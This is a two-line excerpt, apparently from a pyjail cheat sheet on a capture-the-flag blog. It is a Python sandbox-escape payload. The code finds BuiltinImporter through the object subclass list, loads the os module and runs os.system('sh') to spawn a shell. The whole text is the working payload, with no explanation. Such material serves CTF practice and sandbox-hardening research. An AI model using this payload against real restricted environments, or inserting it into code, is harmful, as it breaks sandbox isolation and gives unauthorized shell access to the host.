# Source: https://shirajuki.js.org/blog/pyjail-cheatsheet/ (Shirajuki/shirajuki.github.io src/routes/blog/pyjail-cheatsheet.md)
importer = [c for c in "".__class__.__mro__[1].__subclasses__() if "BuiltinImporter" in str(c)][0]
importer.load_module("os").system("sh")
